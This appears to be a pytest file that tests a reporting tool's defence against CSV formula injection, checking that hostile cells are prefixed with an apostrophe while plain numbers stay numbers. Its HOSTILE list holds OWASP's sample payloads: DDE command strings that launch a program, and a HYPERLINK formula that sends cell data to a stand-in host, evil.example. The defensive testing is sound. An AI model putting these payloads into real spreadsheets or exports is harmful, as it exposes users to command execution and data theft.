"""Every CSV croupier writes opens in a spreadsheet as data (issue 28; OWASP's CSV-injection
rule): a cell starting with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is written
after an apostrophe, unless it is a number and nothing else. The cases are OWASP's published
examples and the project's own money and percentages."""

from __future__ import annotations

import csv
import io

import pytest

from croupier.reports.csvsafe import TRIGGERS, csv_bytes, safe_cell
from croupier.reports.model import Form, FormPerson, FormTable
from croupier.reports.render import Format, render

HOSTILE = (
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "\t=1+1",
    "\r=1+1",
    "-",
)


def dangerous(cell: str) -> bool:
    """What a spreadsheet could read as a formula: a trigger first, and not a plain number."""
    return cell.startswith(TRIGGERS) and safe_cell(cell) != cell


@pytest.mark.parametrize("text", HOSTILE)
def test_a_formula_is_written_as_text(text: str) -> None:
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize("text", ["-12", "-12.50", "-$1,250.00", "-3.5%", "-$0.75", "0"])
def test_a_number_alone_stays_a_number(text: str) -> None:
    assert safe_cell(text) == text


@pytest.mark.parametrize("text", ["Ann Smith", "$1,250.00", "99-01.3-08-04.8", "1x500", "'=1"])
def test_ordinary_text_is_left_as_it_is(text: str) -> None:
    assert safe_cell(text) == text


@pytest.mark.parametrize("text", ["-1+1", "-$1,25", "-12-3", "-1e3", "- 12", "-$12.50=1"])
def test_a_number_followed_by_anything_is_not_a_number(text: str) -> None:
    assert safe_cell(text) == "'" + text


def test_csv_bytes_reads_back_as_the_safe_cells() -> None:
    rows = [[text, 5, None] for text in HOSTILE]
    back = list(csv.reader(io.StringIO(csv_bytes(rows).decode("utf-8"), newline="")))
    assert back == [["'" + text, "5", ""] for text in HOSTILE]


def test_every_part_of_a_report_form_is_safe_in_its_csv() -> None:
    """The one writer every report goes through (``croupier report ... --format csv``, the
    back office's downloads): warnings, header, fields, tables, people, notes and anchor."""
    h = iter(HOSTILE * 4)
    form = Form(
        title=next(h),
        section=next(h),
        fields=((next(h), next(h)),),
        tables=(FormTable(next(h), (next(h), "amount"), ((next(h), "-$12.50"),)),),
        notes=(next(h),),
        organization=next(h),
        site=next(h),
        period=next(h),
        people=(FormPerson(next(h), next(h), next(h), next(h)),),
        warning="=1+1 the chain is damaged",
        anchor="=anchor",
    )
    text = render(form, Format.CSV).decode("utf-8")
    cells = [c for row in csv.reader(io.StringIO(text, newline="")) for c in row]
    assert not [c for c in cells if dangerous(c)]
    assert "-$12.50" in cells  # a negative amount stays a number
    for hostile in HOSTILE:
        assert "'" + hostile in cells  # kept, as text
